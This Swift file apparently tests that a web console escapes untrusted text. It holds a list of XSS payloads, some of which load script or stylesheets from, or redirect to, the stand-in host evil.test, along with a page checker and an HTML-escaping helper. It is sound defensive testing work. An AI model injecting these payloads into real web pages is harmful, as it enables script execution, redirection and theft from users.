/// Texts from outside, as attackers write them, and whether a page shows them as texts.
enum ForeignText {
  static let attacks = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=alert(1) `", "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</pre><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<base href=//evil.test/>", "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css'</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)＜/script＞",
    "\u{202E}<script>alert(1)</script>", "java\tscript:alert(1)//<img\u{0B}src=x onerror=alert(1)>",
  ]

  /// The elements and attributes that the console's own pages have.
  private static let tags: Set<String> = [
    "a", "b", "bdi", "body", "button", "code", "dd", "details", "dialog", "div", "dl", "dt", "footer", "form", "h1",
    "h2", "h3", "head", "header", "html", "i", "input", "kbd", "label", "li", "link", "main", "meta", "nav", "ol",
    "option", "p", "path", "pre", "q", "rect", "script", "section", "select", "small", "span", "summary", "svg",
    "circle", "table", "tbody", "td", "textarea", "th", "thead", "time", "title", "tr", "ul", "caption",
  ]

  /// What is not as the console writes it: an element that it does not have, a script with content, an attribute that
  /// runs, or an address elsewhere.
  static func wrong(in page: String) -> [String] {
    var wrong: [String] = []
    var rest = page.dropFirst("<!doctype html>\n".count)
    while let start = rest.firstIndex(of: "<") {
      guard let end = rest[start...].firstIndex(of: ">") else { return wrong + ["a tag without an end"] }
      let tag = rest[rest.index(after: start)..<end]
      let name = String(tag.drop { $0 == "/" }.prefix { $0 != " " && $0 != "\n" })
      if !tags.contains(name) { wrong.append("<\(tag)>") }
      // Quotes within a value are references, so what stands outside of them are names.
      let parts = tag.split(separator: "\"", omittingEmptySubsequences: false)
      let names = parts.enumerated().filter { $0.offset % 2 == 0 }.map { String($0.element) }.joined()
      for attribute in [" on", " style=", " srcdoc=", " formaction="] where names.contains(attribute) {
        wrong.append("<\(tag)>")
      }
      for (place, value) in parts.enumerated() where place % 2 == 1 {
        guard [" href=", " src=", " action="].contains(where: { parts[place - 1].hasSuffix($0) }) else { continue }
        if !(value.hasPrefix("/") && !value.hasPrefix("//")) && !value.hasPrefix("#") { wrong.append("<\(tag)>") }
      }
      rest = rest[rest.index(after: end)...]
      if name == "script", tag.first != "/", !rest.hasPrefix("</script>") { wrong.append("a script with content") }
    }
    return wrong
  }

  static func escaped(_ text: String) -> String {
    text.unicodeScalars.map { scalar in
      switch scalar {
      case "&": "&amp;"
      case "<": "&lt;"
      case ">": "&gt;"
      case "\"": "&quot;"
      case "'": "&#39;"
      case "`": "&#96;"
      case "\u{0B}": "\u{FFFD}"
      default: String(scalar)
      }
    }.joined()
  }

  /// The text without what lies beyond that many bytes.
  static func cut(_ text: String, to bytes: Int) -> String {
    var text = text
    while text.utf8.count > bytes { text.removeLast() }
    return text
  }
}
